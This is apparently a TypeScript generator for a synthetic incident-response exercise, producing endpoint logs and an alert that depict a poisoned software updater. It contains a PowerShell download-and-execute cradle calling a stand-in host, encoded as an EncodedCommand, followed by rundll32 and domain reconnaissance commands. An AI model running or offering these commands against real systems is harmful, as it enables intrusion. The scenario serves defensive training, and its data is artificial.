import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import { scatter, utc } from "./lines.ts";

const from = utc("2025-09-09 00:00:00");
const to = utc("2025-09-10 00:00:00");
const strike = utc("2025-09-09 06:30:00");
const command = "198.51.100.140";
const hosts = ["W01", "W02", "W03", "W04", "W05", "W06", "W07", "W08", "W09", "SRV-APP"];
const poisoned = ["W01", "W04", "W09", "SRV-APP"];
const updater = "C:\\Program Files\\Synlog\\updater.exe";
const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const rundll = "C:\\Windows\\System32\\rundll32.exe";
const chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
const addressOf = (host: string) => `10.66.1.${11 + hosts.indexOf(host)}`;

/**
 * A plant's endpoint export: a signed updater that runs on every machine starts PowerShell on four of them; on one, which alone the alert names,
 * somebody goes on. The updater's own contacts and the inventory's scripts are as they always are.
 */
export function updaterIncident(): ExampleFile[] {
  const rows = [...ordinaryDay(createRandom(909)), ...poisonedUpdate()];
  const text = rows.sort((a, b) => a.ms - b.ms).map(({ record }) => JSON.stringify(record));
  return [
    { path: "organisation.yml", content: organisation },
    { path: "alert.json", content: alert },
    { path: "evidence/endpoint/events.ndjson", content: `${text.join("\n")}\n` },
  ];
}

interface Row {
  ms: number;
  record: Record<string, unknown>;
}

const base = (ms: number, host: string) => ({
  "@timestamp": new Date(ms).toISOString(),
  host: { name: host, ip: [addressOf(host)], os: { type: "windows" } },
});
const program = (path: string) => ({ executable: path, name: path.split("\\").at(-1) });

function started(ms: number, host: string, path: string, line: string, parent: string, user = "SYSTEM"): Row {
  return {
    ms,
    record: {
      ...base(ms, host),
      event: { kind: "event", category: ["process"], type: ["start"], action: "start" },
      user: { name: user },
      process: { pid: 4000, ...program(path), command_line: line, parent: program(parent) },
    },
  };
}

function connected(ms: number, host: string, path: string, to: string): Row {
  return {
    ms,
    record: {
      ...base(ms, host),
      event: { kind: "event", category: ["network"], type: ["start"], action: "connection_attempted" },
      user: { name: "SYSTEM" },
      process: { pid: 4000, ...program(path) },
      source: { ip: addressOf(host), port: 50_000 + (ms % 9000) },
      destination: { ip: to, port: 443 },
      network: { direction: "egress", transport: "tcp" },
    },
  };
}

function ordinaryDay(random: Random): Row[] {
  const rows: Row[] = [];
  const services = "C:\\Windows\\System32\\services.exe";
  for (const host of hosts) {
    for (const hour of ["02", "08", "14", "20"]) {
      const ms = utc(`2025-09-09 ${hour}:10:00`) + random.between(0, 600) * 1000;
      rows.push(started(ms, host, updater, "updater.exe /check", services));
      rows.push(connected(ms + 5000, host, updater, "192.0.2.80"));
    }
    for (const hour of ["03", "15"])
      rows.push(
        started(
          utc(`2025-09-09 ${hour}:00:00`),
          host,
          powershell,
          'powershell.exe -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\SystemTemp\\inv.ps1"',
          "C:\\Windows\\CCM\\CcmExec.exe",
        ),
      );
  }
  scatter(random, 900, from, to, (ms) =>
    rows.push(
      started(
        ms,
        random.pick(hosts),
        chrome,
        "chrome.exe --type=renderer",
        "C:\\Windows\\explorer.exe",
        "user",
      ),
    ),
  );
  scatter(random, 900, from, to, (ms) =>
    rows.push(connected(ms, random.pick(hosts), chrome, random.pick(["142.250.74.46", "13.107.42.14"]))),
  );
  return rows;
}

function poisonedUpdate(): Row[] {
  const script = `$c=New-Object Net.WebClient;IEX $c.DownloadString('https://${command}/u')`;
  const encoded = Buffer.from(script, "utf16le").toString("base64");
  const rows = poisoned.flatMap((host, i) => [
    started(
      strike + i * 5000,
      host,
      powershell,
      `powershell.exe -NoProfile -EncodedCommand ${encoded}`,
      updater,
    ),
    connected(strike + i * 5000 + 2000, host, powershell, command),
  ]);
  rows.push(
    started(strike + 600_000, "W04", rundll, "rundll32.exe C:\\ProgramData\\Synlog\\x.dll,Start", powershell),
  );
  const questions = [
    "whoami /all",
    "nltest /dclist:",
    'net group "domain admins" /domain',
    "ipconfig /all",
    "systeminfo",
  ];
  for (const [i, question] of questions.entries())
    rows.push(
      started(
        strike + 660_000 + i * 9000,
        "W04",
        "C:\\Windows\\System32\\cmd.exe",
        `cmd.exe /c ${question}`,
        rundll,
      ),
    );
  for (let i = 0; i < 80; i++) rows.push(connected(strike + 700_000 + i * 180_000, "W04", rundll, command));
  return rows;
}

const organisation = `name: Plant
timeZone: Europe/Stockholm
operatingCountries: [SE, US]
internalNetworks: [10.66.0.0/16]
`;

/** As a Falcon detection has it. */
const alert = `${JSON.stringify(
  {
    metadata: { eventType: "DetectionSummaryEvent", eventCreationTime: utc("2025-09-09 06:45:00") },
    event: {
      ComputerName: "W04",
      UserName: "SYSTEM",
      DetectName: "Encoded PowerShell",
      FileName: "powershell.exe",
      SeverityName: "High",
      PatternDispositionDescription: "Detection, standard detection.",
      LocalIP: addressOf("W04"),
    },
  },
  null,
  2,
)}\n`;
